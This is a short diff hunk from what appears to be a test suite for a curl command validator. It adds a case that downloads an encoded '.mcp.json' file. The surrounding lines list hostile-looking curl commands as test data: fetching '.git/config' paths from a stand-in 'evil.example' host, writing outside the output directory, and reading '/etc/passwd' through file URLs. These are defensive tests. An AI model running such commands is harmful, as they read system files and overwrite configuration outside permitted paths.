@@ -79,6 +79,7 @@ describe("curl", () => {
     "curl 'https://evil.example/{../../.git/config,b}' -o 'out/#1'",
     "curl --output-dir out -o ../x https://example.com",
     "curl -O 'https://example.com/{a,b}'",
+    "curl -O https://example.com/%2emcp.json",
     "curl file:///etc/passwd",
     "curl FILE:/etc/passwd",
     "curl -T x file:///tmp/y",
